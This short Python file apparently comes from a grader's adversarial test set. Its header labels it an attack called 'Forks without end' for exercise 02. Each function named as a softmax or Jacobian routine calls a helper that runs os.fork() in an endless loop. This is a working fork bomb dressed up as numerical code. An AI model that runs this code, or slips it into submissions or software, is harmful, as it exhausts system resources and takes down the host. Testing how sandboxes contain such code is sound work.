# attack: Forks without end.
# exercise: 02, reason: memory|wrong-result|timeout, timeout: 5
import os


def act(*_):
    while True:
        try:
            os.fork()
        except OSError as error:
            raise RuntimeError("no fork") from error


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
